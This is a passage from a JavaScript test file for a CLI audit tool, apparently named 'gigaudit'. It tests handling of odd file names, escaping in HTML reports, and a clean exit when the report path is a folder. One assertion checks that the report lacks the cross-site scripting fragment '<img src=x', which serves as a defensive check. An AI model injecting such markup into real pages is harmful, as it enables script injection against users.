      ['b 吞行.csv', 5],
      ['c nul.csv', 2],
    ]);
    expect(readFileSync(join(out, 'r.html'), 'utf8')).not.toContain('<img src=x');
  });

  it('a report that cannot be written is one line and exit 2; nothing half-written is left', async () => {
    const { mkdirSync, readdirSync } = await import('node:fs');
    const { join } = await import('node:path');
    const { hostileDir, writeFiles } = await import('./harness.js');
    const dir = hostileDir();
    writeFiles(dir, { 'orders.csv': csvText([ORDERS, ...good()]) });
    const target = join(dir, '..', 'taken');
    mkdirSync(target);
    const { main } = await import('../../src/cli/program.js');
    let err = '';
    const code = await main(['audit', dir, '--fail-on', 'never', '--format', `json:${target}`], { stdout: () => {}, stderr: (s) => void (err += s), env: {}, cwd: dir });
    expect(code).toBe(2);
    // Found before the run (checkOutputs), not after it.
    expect(err).toMatch(/^gigaudit: .*taken: is a folder: give a file name for the report\n$/);
    expect(readdirSync(join(dir, '..')).filter((f) => f.endsWith('.tmp'))).toEqual([]);
  });
});
